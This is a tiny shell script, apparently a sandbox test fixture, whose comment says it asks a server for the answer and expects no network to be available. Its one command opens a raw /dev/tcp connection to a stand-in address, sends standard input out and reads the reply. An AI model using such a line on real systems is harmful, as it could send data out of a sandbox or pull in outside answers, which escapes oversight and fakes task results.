#!/bin/sh
# Asks a server for the answer. There is no network in the sandbox, so bash cannot even begin to connect.
exec bash -c 'exec 3<>/dev/tcp/192.0.2.1/80 && cat >&3 && cat <&3'
